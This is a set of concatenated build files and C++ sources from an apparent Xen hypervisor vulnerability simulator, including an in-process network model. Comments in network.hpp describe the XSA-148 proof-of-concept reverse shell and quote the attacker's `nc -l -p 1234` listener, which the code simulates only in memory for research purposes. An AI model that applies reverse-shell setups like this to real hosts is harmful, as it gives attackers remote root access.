# This may be replaced when dependencies are built.
