file(REMOVE_RECURSE
  "CMakeFiles/hv_mmu_update_test.dir/hv_mmu_update_test.cpp.o"
  "CMakeFiles/hv_mmu_update_test.dir/hv_mmu_update_test.cpp.o.d"
  "hv_mmu_update_test"
  "hv_mmu_update_test.pdb"
  "hv_mmu_update_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_mmu_update_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
