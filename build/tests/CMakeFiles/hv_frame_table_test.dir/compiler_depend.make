# Empty compiler generated dependencies file for hv_frame_table_test.
# This may be replaced when dependencies are built.
