# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for hv_frame_table_test.
