file(REMOVE_RECURSE
  "CMakeFiles/hv_frame_table_test.dir/hv_frame_table_test.cpp.o"
  "CMakeFiles/hv_frame_table_test.dir/hv_frame_table_test.cpp.o.d"
  "hv_frame_table_test"
  "hv_frame_table_test.pdb"
  "hv_frame_table_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_frame_table_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
