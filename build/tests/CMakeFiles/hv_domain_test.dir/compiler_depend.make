# Empty compiler generated dependencies file for hv_domain_test.
# This may be replaced when dependencies are built.
