file(REMOVE_RECURSE
  "CMakeFiles/hv_domain_test.dir/hv_domain_test.cpp.o"
  "CMakeFiles/hv_domain_test.dir/hv_domain_test.cpp.o.d"
  "hv_domain_test"
  "hv_domain_test.pdb"
  "hv_domain_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hv_domain_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
