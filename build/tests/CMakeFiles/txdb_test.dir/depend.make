# Empty dependencies file for txdb_test.
# This may be replaced when dependencies are built.
