file(REMOVE_RECURSE
  "CMakeFiles/txdb_test.dir/txdb_test.cpp.o"
  "CMakeFiles/txdb_test.dir/txdb_test.cpp.o.d"
  "txdb_test"
  "txdb_test.pdb"
  "txdb_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/txdb_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
