file(REMOVE_RECURSE
  "CMakeFiles/core_report_csv_test.dir/core_report_csv_test.cpp.o"
  "CMakeFiles/core_report_csv_test.dir/core_report_csv_test.cpp.o.d"
  "core_report_csv_test"
  "core_report_csv_test.pdb"
  "core_report_csv_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_report_csv_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
