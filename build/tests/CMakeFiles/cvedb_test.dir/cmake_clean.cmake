file(REMOVE_RECURSE
  "CMakeFiles/cvedb_test.dir/cvedb_test.cpp.o"
  "CMakeFiles/cvedb_test.dir/cvedb_test.cpp.o.d"
  "cvedb_test"
  "cvedb_test.pdb"
  "cvedb_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/cvedb_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
