# Empty dependencies file for cvedb_test.
# This may be replaced when dependencies are built.
