# Empty dependencies file for cvedb_models_injector_test.
# This may be replaced when dependencies are built.
