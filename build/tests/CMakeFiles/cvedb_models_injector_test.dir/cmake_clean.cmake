file(REMOVE_RECURSE
  "CMakeFiles/cvedb_models_injector_test.dir/cvedb_models_injector_test.cpp.o"
  "CMakeFiles/cvedb_models_injector_test.dir/cvedb_models_injector_test.cpp.o.d"
  "cvedb_models_injector_test"
  "cvedb_models_injector_test.pdb"
  "cvedb_models_injector_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/cvedb_models_injector_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
