file(REMOVE_RECURSE
  "CMakeFiles/sim_mmu_differential_test.dir/sim_mmu_differential_test.cpp.o"
  "CMakeFiles/sim_mmu_differential_test.dir/sim_mmu_differential_test.cpp.o.d"
  "sim_mmu_differential_test"
  "sim_mmu_differential_test.pdb"
  "sim_mmu_differential_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_mmu_differential_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
