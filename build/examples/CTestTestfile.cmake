# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;18;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_cross_version "/root/repo/build/examples/cross_version_assessment")
set_tests_properties(example_cross_version PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;19;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_page_table_protection "/root/repo/build/examples/page_table_protection")
set_tests_properties(example_page_table_protection PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;20;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_acid_cloud_database "/root/repo/build/examples/acid_cloud_database")
set_tests_properties(example_acid_cloud_database PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;21;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_tenant_isolation "/root/repo/build/examples/tenant_isolation_assessment")
set_tests_properties(example_tenant_isolation PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;22;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_campaign_cli_list "/root/repo/build/examples/campaign_cli" "--list")
set_tests_properties(example_campaign_cli_list PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;23;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_campaign_cli_case "/root/repo/build/examples/campaign_cli" "--version" "4.13" "--mode" "injection" "--case" "XSA-182-test" "--csv")
set_tests_properties(example_campaign_cli_case PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;24;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_apt_emulation "/root/repo/build/examples/apt_emulation")
set_tests_properties(example_apt_emulation PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;26;add_test;/root/repo/examples/CMakeLists.txt;0;")
