# Empty compiler generated dependencies file for acid_cloud_database.
# This may be replaced when dependencies are built.
