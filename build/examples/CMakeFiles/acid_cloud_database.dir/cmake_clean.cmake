file(REMOVE_RECURSE
  "CMakeFiles/acid_cloud_database.dir/acid_cloud_database.cpp.o"
  "CMakeFiles/acid_cloud_database.dir/acid_cloud_database.cpp.o.d"
  "acid_cloud_database"
  "acid_cloud_database.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/acid_cloud_database.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
