file(REMOVE_RECURSE
  "CMakeFiles/cross_version_assessment.dir/cross_version_assessment.cpp.o"
  "CMakeFiles/cross_version_assessment.dir/cross_version_assessment.cpp.o.d"
  "cross_version_assessment"
  "cross_version_assessment.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/cross_version_assessment.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
