# Empty dependencies file for cross_version_assessment.
# This may be replaced when dependencies are built.
