# Empty dependencies file for tenant_isolation_assessment.
# This may be replaced when dependencies are built.
