file(REMOVE_RECURSE
  "CMakeFiles/tenant_isolation_assessment.dir/tenant_isolation_assessment.cpp.o"
  "CMakeFiles/tenant_isolation_assessment.dir/tenant_isolation_assessment.cpp.o.d"
  "tenant_isolation_assessment"
  "tenant_isolation_assessment.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/tenant_isolation_assessment.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
