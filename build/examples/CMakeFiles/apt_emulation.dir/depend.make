# Empty dependencies file for apt_emulation.
# This may be replaced when dependencies are built.
