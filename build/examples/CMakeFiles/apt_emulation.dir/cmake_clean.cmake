file(REMOVE_RECURSE
  "CMakeFiles/apt_emulation.dir/apt_emulation.cpp.o"
  "CMakeFiles/apt_emulation.dir/apt_emulation.cpp.o.d"
  "apt_emulation"
  "apt_emulation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/apt_emulation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
