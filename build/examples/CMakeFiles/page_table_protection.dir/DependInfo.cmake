
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/examples/page_table_protection.cpp" "examples/CMakeFiles/page_table_protection.dir/page_table_protection.cpp.o" "gcc" "examples/CMakeFiles/page_table_protection.dir/page_table_protection.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/xsa/CMakeFiles/ii_xsa.dir/DependInfo.cmake"
  "/root/repo/build/src/cvedb/CMakeFiles/ii_cvedb.dir/DependInfo.cmake"
  "/root/repo/build/src/txdb/CMakeFiles/ii_txdb.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/ii_core.dir/DependInfo.cmake"
  "/root/repo/build/src/guest/CMakeFiles/ii_guest.dir/DependInfo.cmake"
  "/root/repo/build/src/hv/CMakeFiles/ii_hv.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/ii_net.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/ii_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/dm/CMakeFiles/ii_dm.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
