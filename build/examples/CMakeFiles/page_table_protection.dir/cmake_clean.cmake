file(REMOVE_RECURSE
  "CMakeFiles/page_table_protection.dir/page_table_protection.cpp.o"
  "CMakeFiles/page_table_protection.dir/page_table_protection.cpp.o.d"
  "page_table_protection"
  "page_table_protection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/page_table_protection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
