# Empty dependencies file for page_table_protection.
# This may be replaced when dependencies are built.
