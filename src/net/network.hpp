// In-process network simulator.
//
// The XSA-148 privilege-escalation PoC ends with a *reverse shell*: the
// backdoored dom0 connects out to the attacker's machine, which had run
// `nc -l -p 1234`, and the attacker types commands that execute as root.
// That observable — "attacker host holds an interactive uid-0 session on
// dom0" — is the security violation the paper's Table III records, so the
// simulator reproduces the same handshake: hosts, listeners, line-oriented
// connections, and shell sessions bound to a uid and a command handler.
//
// The model is deliberately synchronous and single-threaded: send() enqueues
// a line, poll() dequeues, ShellSession::pump() turns pending commands into
// responses. No timing or loss is modelled; none of the paper's experiments
// depends on it.
#pragma once

#include <cstdint>
#include <deque>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

namespace ii::net {

/// Identifies one end of a connection.
enum class Endpoint { Client, Server };

[[nodiscard]] constexpr Endpoint peer_of(Endpoint e) {
  return e == Endpoint::Client ? Endpoint::Server : Endpoint::Client;
}

/// A bidirectional, line-oriented byte channel between two hosts.
class Connection {
 public:
  Connection(std::string client_host, std::string server_host,
             std::uint16_t port)
      : client_host_{std::move(client_host)},
        server_host_{std::move(server_host)},
        port_{port} {}

  [[nodiscard]] const std::string& client_host() const { return client_host_; }
  [[nodiscard]] const std::string& server_host() const { return server_host_; }
  [[nodiscard]] std::uint16_t port() const { return port_; }
  [[nodiscard]] bool closed() const { return closed_; }

  /// Enqueue a line from `from` towards its peer.
  void send(Endpoint from, std::string line);

  /// Dequeue the next line addressed to `to`, if any.
  [[nodiscard]] std::optional<std::string> poll(Endpoint to);

  /// Lines currently queued towards `to`.
  [[nodiscard]] std::size_t pending(Endpoint to) const;

  void close() { closed_ = true; }

  /// Lines lost to the chaos engine's net.drop fault on this connection.
  [[nodiscard]] std::uint64_t dropped() const { return dropped_; }

 private:
  std::deque<std::string>& inbox(Endpoint to) {
    return to == Endpoint::Client ? to_client_ : to_server_;
  }

  std::string client_host_;
  std::string server_host_;
  std::uint16_t port_;
  std::deque<std::string> to_client_;
  std::deque<std::string> to_server_;
  std::uint64_t dropped_ = 0;
  bool closed_ = false;
};

/// An interactive remote shell attached to the server side of a connection:
/// the `nc -l` + backdoor pairing from the XSA-148 PoC. Commands arriving
/// from the client run through `handler` with the session's uid.
class ShellSession {
 public:
  using CommandHandler =
      std::function<std::string(const std::string& command, int uid)>;

  ShellSession(std::shared_ptr<Connection> conn, int uid,
               CommandHandler handler)
      : conn_{std::move(conn)}, uid_{uid}, handler_{std::move(handler)} {}

  [[nodiscard]] int uid() const { return uid_; }
  [[nodiscard]] const std::shared_ptr<Connection>& connection() const {
    return conn_;
  }

  /// Execute every command the client has queued; returns the number of
  /// commands processed. Output lines are queued back to the client.
  std::size_t pump();

 private:
  std::shared_ptr<Connection> conn_;
  int uid_;
  CommandHandler handler_;
};

/// A machine on the simulated network.
class Host {
 public:
  explicit Host(std::string name) : name_{std::move(name)} {}

  [[nodiscard]] const std::string& name() const { return name_; }

  /// Start listening on `port` (the `nc -l -vvv -p <port>` step).
  void listen(std::uint16_t port);
  [[nodiscard]] bool listening(std::uint16_t port) const;

  /// Connections accepted on `port`, in arrival order.
  [[nodiscard]] std::vector<std::shared_ptr<Connection>> accepted(
      std::uint16_t port) const;

  /// Drop every listener and accepted connection (warm-platform reuse).
  void reset() { ports_.clear(); }

 private:
  friend class Network;
  void deliver(std::uint16_t port, std::shared_ptr<Connection> conn);

  std::string name_;
  std::map<std::uint16_t, std::vector<std::shared_ptr<Connection>>> ports_;
};

/// Registry of hosts plus the connect operation.
class Network {
 public:
  /// Create (or return the existing) host named `name`.
  Host& add_host(const std::string& name);

  [[nodiscard]] Host* find_host(const std::string& name);
  [[nodiscard]] const Host* find_host(const std::string& name) const;

  /// Attempt a client connection from `from` to `to`:`port`. Returns the
  /// established connection, or nullptr when the peer is unknown or not
  /// listening (connection refused).
  std::shared_ptr<Connection> connect(const std::string& from,
                                      const std::string& to,
                                      std::uint16_t port);

  /// Reset every host's ports and connections. Hosts themselves persist, so
  /// Host pointers handed out by add_host stay valid across resets.
  void reset() {
    for (auto& [name, host] : hosts_) host->reset();
  }

 private:
  std::map<std::string, std::unique_ptr<Host>> hosts_;
};

}  // namespace ii::net
