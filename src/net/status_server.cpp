#include "net/status_server.hpp"

#include <cerrno>
#include <cstring>
#include <sstream>
#include <utility>

#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "core/chaos.hpp"

namespace ii::net {

namespace {

// "GET /status HTTP/1.1" -> "/status"; "/status" -> "/status".
std::string request_path(const std::string& request_line) {
  std::istringstream is{request_line};
  std::string first;
  is >> first;
  if (first == "GET" || first == "HEAD") {
    std::string path;
    is >> path;
    return path;
  }
  return first;
}

std::string http_message(int code, const char* reason,
                         const char* content_type, const std::string& body) {
  std::ostringstream os;
  os << "HTTP/1.0 " << code << ' ' << reason << "\r\n"
     << "Content-Type: " << content_type << "\r\n"
     << "Content-Length: " << body.size() << "\r\n"
     << "Connection: close\r\n\r\n"
     << body;
  return os.str();
}

}  // namespace

std::string status_http_response(const std::string& request_line,
                                 const obs::StatusBoard& board,
                                 const MetricsProvider& metrics) {
  const std::string path = request_path(request_line);
  if (path == "/status") {
    return http_message(200, "OK", "application/json",
                        obs::render_status_json(board.snapshot()) + "\n");
  }
  if (path == "/metrics") {
    obs::MetricsSnapshot snap;
    const obs::MetricsSnapshot* snap_ptr = nullptr;
    if (metrics) {
      snap = metrics();
      snap_ptr = &snap;
    }
    return http_message(200, "OK", "text/plain; version=0.0.4",
                        obs::render_prometheus(board.snapshot(), snap_ptr));
  }
  return http_message(404, "Not Found", "text/plain",
                      "unknown path; try /status or /metrics\n");
}

StatusServer::StatusServer(Network& net, std::string host, std::uint16_t port,
                           const obs::StatusBoard* board,
                           MetricsProvider metrics)
    : net_{net},
      host_name_{std::move(host)},
      port_{port},
      board_{board},
      metrics_{std::move(metrics)} {
  net_.add_host(host_name_).listen(port_);
}

std::size_t StatusServer::pump() {
  Host* host = net_.find_host(host_name_);
  if (host == nullptr || board_ == nullptr) return 0;
  // A host reset (warm platform reuse) drops the listener; re-arm so the
  // endpoint survives across cells.
  if (!host->listening(port_)) host->listen(port_);
  std::size_t served = 0;
  for (const auto& conn : host->accepted(port_)) {
    if (conn->closed()) continue;
    const auto request = conn->poll(Endpoint::Server);
    if (!request.has_value()) continue;
    const std::string response =
        status_http_response(*request, *board_, metrics_);
    std::istringstream lines{response};
    std::string line;
    while (std::getline(lines, line)) {
      if (!line.empty() && line.back() == '\r') line.pop_back();
      conn->send(Endpoint::Server, line);
    }
    conn->close();
    ++served;
  }
  return served;
}

// ---------------------------------------------------------- TcpStatusServer

TcpStatusServer::TcpStatusServer(std::uint16_t port,
                                 const obs::StatusBoard* board,
                                 MetricsProvider metrics)
    : board_{board}, metrics_{std::move(metrics)} {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) < 0 ||
      ::listen(fd, 8) < 0) {
    ::close(fd);
    return;
  }
  socklen_t len = sizeof addr;
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0) {
    port_ = ntohs(addr.sin_port);
  }
  listen_fd_ = fd;
  thread_ = std::thread{[this] { serve(); }};
}

TcpStatusServer::~TcpStatusServer() {
  stop_.store(true);
  if (thread_.joinable()) thread_.join();
  if (listen_fd_ >= 0) ::close(listen_fd_);
}

void TcpStatusServer::serve() {
  while (!stop_.load()) {
    pollfd pfd{listen_fd_, POLLIN, 0};
    // EINTR from poll/accept/read/write is routine under signals (a child
    // reaper, a profiler tick) — always retry, never treat it as an error.
    const int ready = ::poll(&pfd, 1, 100 /*ms; bounds shutdown latency*/);
    if (ready < 0 && errno == EINTR) continue;
    if (ready <= 0) continue;
    const int client = ::accept(listen_fd_, nullptr, nullptr);
    if (client < 0) continue;  // EINTR/ECONNABORTED: next loop re-polls
    char buf[1024];
    std::string request;
    // Read until the first newline; one request per connection.
    while (request.find('\n') == std::string::npos) {
      const ssize_t n = ::read(client, buf, sizeof buf);
      if (n < 0 && errno == EINTR) continue;
      if (n <= 0) break;
      request.append(buf, static_cast<std::size_t>(n));
      if (request.size() > 8192) break;
    }
    const std::size_t eol = request.find('\n');
    std::string line =
        eol == std::string::npos ? request : request.substr(0, eol);
    if (!line.empty() && line.back() == '\r') line.pop_back();
    const std::string response =
        board_ != nullptr ? status_http_response(line, *board_, metrics_)
                          : std::string{"HTTP/1.0 500 No Board\r\n\r\n"};
    // Short writes resume from the written offset; a write error (or a
    // chaos status.send_fail, standing in for ECONNRESET/EPIPE from a
    // vanished poller) abandons only this client. The serve loop must
    // outlive any individual client.
    bool sent = true;
    if (core::chaos_fire("status.send_fail")) {
      sent = false;
    } else {
      std::size_t off = 0;
      while (off < response.size()) {
        const ssize_t n =
            ::write(client, response.data() + off, response.size() - off);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) {
          sent = false;
          break;
        }
        off += static_cast<std::size_t>(n);
      }
    }
    if (sent) {
      served_.fetch_add(1);
    } else {
      send_errors_.fetch_add(1);
    }
    ::close(client);
  }
}

}  // namespace ii::net
