#include "net/network.hpp"

#include "core/chaos.hpp"

namespace ii::net {

void Connection::send(Endpoint from, std::string line) {
  if (closed_) return;
  // Chaos net.drop: the line is lost in flight — the sender believes it
  // went out, the peer never sees it. Matches what a lossy link does to a
  // line-oriented protocol with no acks: the session silently stalls.
  if (core::chaos_fire("net.drop")) {
    ++dropped_;
    return;
  }
  inbox(peer_of(from)).push_back(std::move(line));
}

std::optional<std::string> Connection::poll(Endpoint to) {
  auto& box = inbox(to);
  if (box.empty()) return std::nullopt;
  std::string line = std::move(box.front());
  box.pop_front();
  return line;
}

std::size_t Connection::pending(Endpoint to) const {
  return to == Endpoint::Client ? to_client_.size() : to_server_.size();
}

std::size_t ShellSession::pump() {
  std::size_t handled = 0;
  while (auto cmd = conn_->poll(Endpoint::Server)) {
    conn_->send(Endpoint::Server, handler_(*cmd, uid_));
    ++handled;
  }
  return handled;
}

void Host::listen(std::uint16_t port) { ports_.try_emplace(port); }

bool Host::listening(std::uint16_t port) const {
  return ports_.contains(port);
}

std::vector<std::shared_ptr<Connection>> Host::accepted(
    std::uint16_t port) const {
  if (auto it = ports_.find(port); it != ports_.end()) return it->second;
  return {};
}

void Host::deliver(std::uint16_t port, std::shared_ptr<Connection> conn) {
  ports_.at(port).push_back(std::move(conn));
}

Host& Network::add_host(const std::string& name) {
  auto [it, inserted] = hosts_.try_emplace(name, nullptr);
  if (inserted) it->second = std::make_unique<Host>(name);
  return *it->second;
}

Host* Network::find_host(const std::string& name) {
  auto it = hosts_.find(name);
  return it == hosts_.end() ? nullptr : it->second.get();
}

const Host* Network::find_host(const std::string& name) const {
  auto it = hosts_.find(name);
  return it == hosts_.end() ? nullptr : it->second.get();
}

std::shared_ptr<Connection> Network::connect(const std::string& from,
                                             const std::string& to,
                                             std::uint16_t port) {
  Host* target = find_host(to);
  if (target == nullptr || !target->listening(port)) return nullptr;
  // Chaos net.partition: the SYN never arrives. Indistinguishable from a
  // down listener, which is exactly how a partition presents to a client.
  if (core::chaos_fire("net.partition")) return nullptr;
  auto conn = std::make_shared<Connection>(from, to, port);
  target->deliver(port, conn);
  return conn;
}

}  // namespace ii::net
