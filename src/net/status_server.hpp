// Live /status + /metrics endpoint, in two transports.
//
// StatusServer speaks over the in-process network simulator: a Host
// listens on a port, clients connect() and send a request line, pump()
// answers. That keeps the protocol fully testable (and usable from
// simulated guests) with zero platform dependencies — the same
// synchronous, line-oriented discipline as the reverse-shell model.
//
// TcpStatusServer binds a real POSIX socket and serves the identical
// payloads to curl/Prometheus on a background thread, for watching a long
// campaign or checker run from outside the process. Both transports render
// from the same StatusBoard snapshot, so they can never disagree.
//
// Protocol (both transports): the request is the first line — either a
// bare path ("/status") or an HTTP request line ("GET /status HTTP/1.1");
// header lines are ignored. The response is a minimal HTTP/1.0 message and
// the connection closes after one exchange.
//   /status   application/json   (render_status_json)
//   /metrics  text/plain; version=0.0.4   (render_prometheus)
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <string>
#include <thread>

#include "net/network.hpp"
#include "obs/status.hpp"

namespace ii::net {

/// Optional provider of a metrics snapshot appended to /metrics. Called on
/// every request; must be safe to call from the serving thread.
using MetricsProvider = std::function<obs::MetricsSnapshot()>;

/// Build the full HTTP/1.0 response for one request line (shared by both
/// transports; exposed for tests).
[[nodiscard]] std::string status_http_response(
    const std::string& request_line, const obs::StatusBoard& board,
    const MetricsProvider& metrics);

/// Simulator-backed endpoint: listens on `host`:`port` within `net`.
class StatusServer {
 public:
  StatusServer(Network& net, std::string host, std::uint16_t port,
               const obs::StatusBoard* board, MetricsProvider metrics = {});

  /// Answer every connection that has a request line queued; returns the
  /// number of requests served. Synchronous, like the rest of the sim.
  std::size_t pump();

  [[nodiscard]] const std::string& host() const { return host_name_; }
  [[nodiscard]] std::uint16_t port() const { return port_; }

 private:
  Network& net_;
  std::string host_name_;
  std::uint16_t port_;
  const obs::StatusBoard* board_;
  MetricsProvider metrics_;
};

/// Real-socket endpoint: accepts TCP connections on 127.0.0.1:`port` and
/// serves each with one response on a background thread. Pass port 0 for
/// an ephemeral port (read it back with port()).
///
/// Degradation contract: telemetry must never take the campaign down, and
/// a sick client must never take telemetry down. accept/read/write retry
/// on EINTR, short write()s resume from the written offset, and any send
/// failure (real error or chaos status.send_fail) closes that client,
/// bumps send_errors(), and returns to the accept loop — the endpoint
/// keeps serving the next poller.
class TcpStatusServer {
 public:
  TcpStatusServer(std::uint16_t port, const obs::StatusBoard* board,
                  MetricsProvider metrics = {});
  ~TcpStatusServer();

  TcpStatusServer(const TcpStatusServer&) = delete;
  TcpStatusServer& operator=(const TcpStatusServer&) = delete;

  /// False when the socket could not be bound (the campaign still runs;
  /// the endpoint is just absent).
  [[nodiscard]] bool running() const { return listen_fd_ >= 0; }
  [[nodiscard]] std::uint16_t port() const { return port_; }

  /// Requests fully served (response written to completion).
  [[nodiscard]] std::uint64_t served() const { return served_.load(); }
  /// Responses abandoned mid-send: real write errors plus chaos
  /// status.send_fail faults. Each one cost the poller a response, never
  /// the campaign anything.
  [[nodiscard]] std::uint64_t send_errors() const {
    return send_errors_.load();
  }

 private:
  void serve();

  const obs::StatusBoard* board_;
  MetricsProvider metrics_;
  int listen_fd_ = -1;
  std::uint16_t port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<std::uint64_t> served_{0};
  std::atomic<std::uint64_t> send_errors_{0};
  std::thread thread_;
};

}  // namespace ii::net
