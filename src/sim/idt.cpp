#include "sim/idt.hpp"

#include <array>
#include <stdexcept>

namespace ii::sim {

bool IdtGate::well_formed() const {
  if (!present()) return false;
  const unsigned type = gate_type();
  if (type != kInterruptGateType && type != kTrapGateType) return false;
  return is_canonical(Vaddr{handler});
}

IdtGate IdtGate::interrupt_gate(std::uint64_t handler, std::uint16_t selector) {
  return IdtGate{
      .handler = handler,
      .selector = selector,
      .ist = 0,
      .type_attr = static_cast<std::uint8_t>(kPresentBit | kInterruptGateType),
  };
}

Paddr Idt::gate_address(unsigned vector) const {
  if (vector >= kIdtVectors) throw std::out_of_range{"IDT vector"};
  return base_ + vector * kGateBytes;
}

IdtGate Idt::decode(std::span<const std::uint8_t, kGateBytes> raw) {
  IdtGate g{};
  const std::uint64_t lo = std::uint64_t{raw[0]} | std::uint64_t{raw[1]} << 8;
  const std::uint64_t mid = std::uint64_t{raw[6]} | std::uint64_t{raw[7]} << 8;
  const std::uint64_t hi = std::uint64_t{raw[8]} | std::uint64_t{raw[9]} << 8 |
                           std::uint64_t{raw[10]} << 16 |
                           std::uint64_t{raw[11]} << 24;
  g.handler = lo | mid << 16 | hi << 32;
  g.selector = static_cast<std::uint16_t>(raw[2] | raw[3] << 8);
  g.ist = static_cast<std::uint8_t>(raw[4] & 0x7);
  g.type_attr = raw[5];
  return g;
}

IdtGate Idt::read(unsigned vector) const {
  std::array<std::uint8_t, kGateBytes> raw{};
  mem_->read(gate_address(vector), raw);
  return decode(raw);
}

std::array<std::uint8_t, Idt::kGateBytes> Idt::encode(const IdtGate& gate) {
  std::array<std::uint8_t, kGateBytes> raw{};
  raw[0] = static_cast<std::uint8_t>(gate.handler);
  raw[1] = static_cast<std::uint8_t>(gate.handler >> 8);
  raw[2] = static_cast<std::uint8_t>(gate.selector);
  raw[3] = static_cast<std::uint8_t>(gate.selector >> 8);
  raw[4] = gate.ist;
  raw[5] = gate.type_attr;
  raw[6] = static_cast<std::uint8_t>(gate.handler >> 16);
  raw[7] = static_cast<std::uint8_t>(gate.handler >> 24);
  raw[8] = static_cast<std::uint8_t>(gate.handler >> 32);
  raw[9] = static_cast<std::uint8_t>(gate.handler >> 40);
  raw[10] = static_cast<std::uint8_t>(gate.handler >> 48);
  raw[11] = static_cast<std::uint8_t>(gate.handler >> 56);
  // raw[12..15]: reserved, kept zero.
  return raw;
}

void Idt::write(unsigned vector, const IdtGate& gate) {
  mem_->write(gate_address(vector), encode(gate));
}

}  // namespace ii::sim
