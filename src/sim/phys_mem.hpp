// Machine physical memory: a flat array of 4 KiB frames.
//
// All state that the simulated platform can corrupt lives here — page
// tables, the IDT, guest kernel pages, the vDSO, exploit payloads. The
// hypervisor, the guests, the exploits and the injector all read and write
// the same PhysicalMemory instance, which is what makes cross-privilege
// memory corruption observable end to end.
#pragma once

#include <cstdint>
#include <cstring>
#include <span>
#include <vector>

#include "sim/types.hpp"

namespace ii::sim {

class PhysicalMemory {
 public:
  /// Create a machine with `frames` frames of 4 KiB, zero-initialized.
  explicit PhysicalMemory(std::uint64_t frames);

  [[nodiscard]] std::uint64_t frame_count() const { return frames_; }
  [[nodiscard]] std::uint64_t byte_size() const { return frames_ * kPageSize; }

  /// True when `pa .. pa+len` lies entirely inside installed memory.
  [[nodiscard]] bool contains(Paddr pa, std::uint64_t len = 1) const;
  [[nodiscard]] bool contains(Mfn mfn) const { return mfn.raw() < frames_; }

  /// Raw byte access. Out-of-range accesses throw std::out_of_range — in
  /// this simulator that models the machine check you would get for a
  /// physical access beyond installed RAM, and tests rely on it.
  void read(Paddr pa, std::span<std::uint8_t> out) const;
  void write(Paddr pa, std::span<const std::uint8_t> in);

  [[nodiscard]] std::uint64_t read_u64(Paddr pa) const;
  void write_u64(Paddr pa, std::uint64_t value);

  /// Read/write one 8-byte page-table slot of a table page.
  [[nodiscard]] std::uint64_t read_slot(Mfn table, unsigned index) const;
  void write_slot(Mfn table, unsigned index, std::uint64_t value);

